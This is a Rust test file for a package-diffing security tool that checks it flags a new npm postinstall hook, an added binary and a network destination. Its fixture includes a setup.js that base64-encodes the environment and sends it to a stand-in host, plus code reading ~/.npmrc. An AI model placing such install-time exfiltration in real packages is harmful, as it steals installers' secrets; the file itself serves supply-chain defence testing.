//! `cordon diff OLD NEW` on two versions of a package made by the test:
//! the second adds a `postinstall` hook that sends the environment to a
//! host, a dependency and a binary; the comparison names each, ignores
//! code that only moved, and exits with 1 for the high-severity
//! behaviour. Every package here is written by the test; none runs,
//! and registry packages come from a fake registry on loopback.

#[path = "../../cordon-registry/tests/support/mod.rs"]
mod fake;
mod registry_support;
mod support;

use std::fs;
use std::path::Path;

use cordon_registry::{Algorithm, Digest};
use fake::{FakeRegistry, Reply};
use serde_json::json;
use support::{Entry, cordon};

const V1_MANIFEST: &str = r#"{"name": "tiny-fmt", "version": "1.0.0",
 "main": "index.js", "dependencies": {"left-pad": "^1.3.0"}}
"#;

const V2_MANIFEST: &str = r#"{"name": "tiny-fmt", "version": "1.0.1",
 "main": "index.js", "scripts": {"postinstall": "node setup.js"},
 "dependencies": {"left-pad": "^1.3.0", "request-lite": "^2.0.0"}}
"#;

/// Reads `~/.npmrc`: a finding in both versions, on another line in
/// the second.
const INDEX: &str = "const os = require('os');\nconst fs = require('fs');\n\
module.exports = () => fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');\n";

/// The new install-time script: the environment, encoded, to a host.
const SETUP: &str = "const https = require('https');\n\
const data = Buffer.from(JSON.stringify(process.env)).toString('base64');\n\
https.get('https://collect.evil.example/c?d=' + data);\n";

fn write(dir: &Path, files: &[(&str, &[u8])]) {
    for (name, data) in files {
        let path = dir.join(name);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, data).unwrap();
    }
}

/// Version 1 as an npm tarball (under `package/`), version 2 as a
/// directory, so that paths compare across the two layouts.
fn versions(dir: &Path) -> (String, String) {
    let v1 = dir.join("tiny-fmt-1.0.0.tgz");
    let tar = support::tar(&[
        Entry::File(b"package/package.json", V1_MANIFEST.as_bytes()),
        Entry::File(b"package/index.js", INDEX.as_bytes()),
    ]);
    fs::write(&v1, support::gzip(&tar)).unwrap();

    let v2 = dir.join("v2");
    let moved = format!("// formatting helpers\n\n{INDEX}");
    let mut elf = b"\x7fELF\x02\x01\x01\0".to_vec();
    elf.resize(256, 0);
    write(
        &v2,
        &[
            ("package.json", V2_MANIFEST.as_bytes()),
            ("index.js", moved.as_bytes()),
            ("setup.js", SETUP.as_bytes()),
            ("bin/helper", &elf),
        ],
    );
    (v1.display().to_string(), v2.display().to_string())
}

fn strings(value: &serde_json::Value) -> Vec<String> {
    value
        .as_array()
        .unwrap_or_else(|| panic!("not an array: {value}"))
        .iter()
        .map(|v| v.as_str().map_or_else(|| v.to_string(), str::to_owned))
        .collect()
}

#[test]
fn a_new_postinstall_hook_and_network_call_fail_the_diff() {
    let dir = tempfile::tempdir().unwrap();
    let (v1, v2) = versions(dir.path());
    let run = cordon(dir.path(), &["diff", "--format", "json", &v1, &v2]);
    assert_eq!(run.code, Some(1), "{run}");
    let report = run.json();

    assert_eq!(report["old"]["version"], "1.0.0", "{run}");
    assert_eq!(report["new"]["version"], "1.0.1", "{run}");
    let hooks = strings(&report["install_hooks_added"]);
    assert!(
        hooks.contains(&"npm postinstall script: node setup.js".to_owned()),
        "{hooks:?}"
    );
    assert!(hooks.contains(&"install-time file: setup.js".to_owned()));
    assert_eq!(strings(&report["install_hooks_removed"]), [] as [&str; 0]);
    assert_eq!(strings(&report["dependencies_added"]), ["request-lite"]);
    assert_eq!(strings(&report["network_added"]), ["collect.evil.example"]);
    assert_eq!(report["binaries_added"][0]["path"], "bin/helper");
    assert_eq!(report["binaries_added"][0]["kind"], "ELF");

    let added = report["findings_added"].as_array().unwrap();
    assert!(
        added.iter().all(|f| f["path"] == "setup.js"),
        "only the new script's findings are new: {added:?}"
    );
    assert!(
        added
            .iter()
            .any(|f| f["rule"] == "js-env-exfil" && f["severity"] == "high"),
        "{added:?}"
    );
    assert!(report["high_severity_added"].as_u64().unwrap() >= 1);
    assert_eq!(
        report["findings_removed"].as_array().unwrap().len(),
        0,
        "the moved `.npmrc` finding is neither added nor removed: {run}"
    );
}

#[test]
fn the_terminal_report_lists_what_was_added() {
    let dir = tempfile::tempdir().unwrap();
    let (v1, v2) = versions(dir.path());
    let run = cordon(dir.path(), &["diff", &v1, &v2]);
    assert_eq!(run.code, Some(1), "{run}");
    for expected in [
        "install hooks added:\n  + install-time file: setup.js\n  \
         + npm postinstall script: node setup.js\n",
        "dependencies added:\n  + request-lite\n",
        "network destinations added:\n  + collect.evil.example\n",
        "  + bin/helper (ELF, added)\n",
        "  + high[js-env-exfil] setup.js:2 (install)",
        "result: ",
    ] {
        assert!(run.stdout.contains(expected), "no {expected:?}:\n{run}");
    }
    assert!(!run.stdout.contains("index.js"), "{run}");
}

#[test]
fn the_reverse_direction_removes_but_adds_nothing_high() {
    let dir = tempfile::tempdir().unwrap();
    let (v1, v2) = versions(dir.path());
    let run = cordon(dir.path(), &["diff", "--format", "json", &v2, &v1]);
    assert_eq!(run.code, Some(0), "{run}");
    let report = run.json();
    assert_eq!(report["high_severity_added"], 0);
    assert_eq!(strings(&report["dependencies_removed"]), ["request-lite"]);
    assert!(!strings(&report["install_hooks_removed"]).is_empty());
    assert_eq!(strings(&report["install_hooks_added"]), [] as [&str; 0]);
    assert_eq!(report["findings_added"].as_array().unwrap().len(), 0);
}

#[test]
fn a_version_that_cannot_be_read_is_an_error() {
    let dir = tempfile::tempdir().unwrap();
    let (v1, _) = versions(dir.path());
    let missing = dir.path().join("nope.tgz");
    let run = cordon(dir.path(), &["diff", &v1, missing.to_str().unwrap()]);
    assert_eq!(run.code, Some(2), "{run}");
    assert!(run.stderr.contains("nope.tgz"), "{run}");
}

/// Publishes two versions of `name` on the fake npm registry.
fn publish_two(registry: &FakeRegistry, name: &str, old: &[u8], new: &[u8]) {
    let mut versions = serde_json::Map::new();
    for (version, tarball) in [("1.0.0", old), ("1.0.1", new)] {
        let file = format!("/tarballs/{name}-{version}.tgz");
        let integrity = Digest::of(Algorithm::Sha512, tarball).to_sri();
        versions.insert(
            version.into(),
            json!({"name": name, "version": version, "dist": {
                "tarball": registry.url(&file), "integrity": integrity}}),
        );
        registry.route(&file, vec![Reply::ok(tarball.to_vec())]);
    }
    let document = json!({
        "name": name,
        "dist-tags": {"latest": "1.0.1"},
        "versions": versions,
    });
    registry
        .route(&format!("/npm/{name}"), vec![Reply::ok(document.to_string())]);
}

#[test]
fn two_registry_versions_are_fetched_and_compared() {
    let registry = FakeRegistry::start();
    let old = fake::npm_honest("tiny", "1.0.0");
    let new = fake::npm_hostile("tiny", "1.0.1");
    publish_two(&registry, "tiny", &old, &new);
    let dir = tempfile::tempdir().unwrap();

    let flags = registry_support::registry_flags(&registry);
    let mut args = vec!["diff", "--format", "json", "--fetch-timeout", "5"];
    args.extend(flags.iter().map(String::as_str));
    args.extend(["npm:tiny@1.0.0", "npm:tiny@1.0.1"]);
    let run = cordon(dir.path(), &args);
    assert_eq!(run.code, Some(1), "{run}");

    let report = run.json();
    assert_eq!(report["old"]["version"], "1.0.0");
    assert_eq!(report["new"]["target"], "npm:tiny@1.0.1");
    let hooks = strings(&report["install_hooks_added"]);
    assert!(
        hooks.contains(
            &"npm postinstall script: node scripts/setup.js".to_owned()
        ),
        "{hooks:?}"
    );
    assert_eq!(
        strings(&report["network_added"]),
        ["collector.example.invalid"]
    );
}
